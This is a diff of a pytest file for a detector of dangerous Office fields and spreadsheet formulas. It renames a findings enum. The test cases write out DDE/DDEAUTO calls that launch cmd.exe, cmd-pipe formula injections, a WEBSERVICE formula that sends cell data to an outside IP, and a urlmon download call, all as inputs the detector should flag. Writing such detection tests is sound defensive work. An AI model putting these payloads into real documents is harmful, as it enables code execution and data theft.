@@ -5,7 +5,7 @@ from __future__ import annotations
 import pytest
 
 from files.reading.elsewhere import is_elsewhere
-from files.reading.found import Finding
+from files.reading.found import FileFault
 from files.reading.office import fields, formulas
 from files.reading.office.fields import Fields
 
@@ -67,16 +67,16 @@ def test_the_writers_own_disk_is_not(target):
 @pytest.mark.parametrize(
     ("instruction", "finding"),
     [
-        (' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"', Finding.PROGRAMS),
-        ("\u200b\u00a0dde Excel a b", Finding.PROGRAMS),
-        ('INCLUDEPICTURE "http://203.0.113.9/a.png" \\d', Finding.ELSEWHERE),
-        ('INCLUDEPICTURE "\\\\\\\\server\\\\share\\\\a.png"', Finding.ELSEWHERE),
-        ("INCLUDEPICTURE \\d \u201chttps://example.org/a.png\u201d", Finding.ELSEWHERE),
-        ("IMPORT \\\\\\\\server\\\\a.wmf", Finding.ELSEWHERE),
-        ('INCLUDETEXT "C:\\\\secret.txt"', Finding.ELSEWHERE),
-        ('LINK Excel.Sheet.12 "C:\\\\book.xlsx" "Sheet1!R1C1" \\a', Finding.ELSEWHERE),
-        ("DATABASE \\d x \\c y", Finding.ELSEWHERE),
-        ("CONTROL Forms.HTML:Text.1 \\s", Finding.PROGRAMS),
+        (' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"', FileFault.PROGRAMS),
+        ("\u200b\u00a0dde Excel a b", FileFault.PROGRAMS),
+        ('INCLUDEPICTURE "http://203.0.113.9/a.png" \\d', FileFault.ELSEWHERE),
+        ('INCLUDEPICTURE "\\\\\\\\server\\\\share\\\\a.png"', FileFault.ELSEWHERE),
+        ("INCLUDEPICTURE \\d \u201chttps://example.org/a.png\u201d", FileFault.ELSEWHERE),
+        ("IMPORT \\\\\\\\server\\\\a.wmf", FileFault.ELSEWHERE),
+        ('INCLUDETEXT "C:\\\\secret.txt"', FileFault.ELSEWHERE),
+        ('LINK Excel.Sheet.12 "C:\\\\book.xlsx" "Sheet1!R1C1" \\a', FileFault.ELSEWHERE),
+        ("DATABASE \\d x \\c y", FileFault.ELSEWHERE),
+        ("CONTROL Forms.HTML:Text.1 \\s", FileFault.PROGRAMS),
         ('INCLUDEPICTURE "C:\\\\Users\\\\Rana\\\\logo.png" \\* MERGEFORMATINET', None),
         ('INCLUDEPICTURE "cid:image001.png@01DC"', None),
         ('HYPERLINK "https://example.org"', None),
@@ -97,18 +97,18 @@ def test_a_field_is_put_together_from_its_runs():
     split.begin()
     for piece in (" D", "D", "E", "AUTO cmd"):
         split.instruction(piece)
-    assert split.separate() == Finding.PROGRAMS
-    assert split.end() == Finding.PROGRAMS
+    assert split.separate() == FileFault.PROGRAMS
+    assert split.end() == FileFault.PROGRAMS
 
 
 def test_a_field_that_never_ends_is_judged_with_the_part():
     unfinished = Fields()
     unfinished.begin()
     unfinished.instruction("DDEAUTO cmd")
-    assert unfinished.rest() == Finding.PROGRAMS
+    assert unfinished.rest() == FileFault.PROGRAMS
     stray = Fields()
     stray.instruction("DDE cmd")
-    assert stray.rest() == Finding.PROGRAMS
+    assert stray.rest() == FileFault.PROGRAMS
 
 
 def test_a_word_that_an_inner_field_spells_counts():
@@ -119,7 +119,7 @@ def test_a_word_that_an_inner_field_spells_counts():
     outer.instruction(" QUOTE 68 68 69 ")
     assert outer.end() is None
     outer.instruction(" cmd")
-    assert outer.end() == Finding.PROGRAMS
+    assert outer.end() == FileFault.PROGRAMS
 
 
 def test_the_result_of_a_field_is_text():
@@ -134,16 +134,16 @@ def test_the_result_of_a_field_is_text():
 @pytest.mark.parametrize(
     ("formula", "finding"),
     [
-        ('_xlfn.WEBSERVICE("http://203.0.113.9/"&A1)', Finding.ELSEWHERE),
-        ("_xlfn.IMAGE(A1)", Finding.ELSEWHERE),
-        ('1+webservice ("a")', Finding.ELSEWHERE),
-        ("cmd|'/c calc'!A0", Finding.PROGRAMS),
-        ("-2+3+cmd|' /C calc'!A0", Finding.PROGRAMS),
-        ('of:=DDE("soffice";"a.ods";"A1")', Finding.PROGRAMS),
-        ('RTD("a",,"b")', Finding.PROGRAMS),
-        ('CALL("urlmon","URLDownloadToFileA")', Finding.PROGRAMS),
-        ("'https://example.org/[a.xlsx]Sheet 1'!A1", Finding.ELSEWHERE),
-        ("of:=['file://server/share/a.ods'#$Sheet1.A1]", Finding.ELSEWHERE),
+        ('_xlfn.WEBSERVICE("http://203.0.113.9/"&A1)', FileFault.ELSEWHERE),
+        ("_xlfn.IMAGE(A1)", FileFault.ELSEWHERE),
+        ('1+webservice ("a")', FileFault.ELSEWHERE),
+        ("cmd|'/c calc'!A0", FileFault.PROGRAMS),
+        ("-2+3+cmd|' /C calc'!A0", FileFault.PROGRAMS),
+        ('of:=DDE("soffice";"a.ods";"A1")', FileFault.PROGRAMS),
+        ('RTD("a",,"b")', FileFault.PROGRAMS),
+        ('CALL("urlmon","URLDownloadToFileA")', FileFault.PROGRAMS),
+        ("'https://example.org/[a.xlsx]Sheet 1'!A1", FileFault.ELSEWHERE),
+        ("of:=['file://server/share/a.ods'#$Sheet1.A1]", FileFault.ELSEWHERE),
         ("of:=['file:///C:/a.ods'#$Sheet1.A1]", None),
         ('HYPERLINK("https://example.org","site")', None),
         ('IF(A1="WEBSERVICE(",1,2)', None),
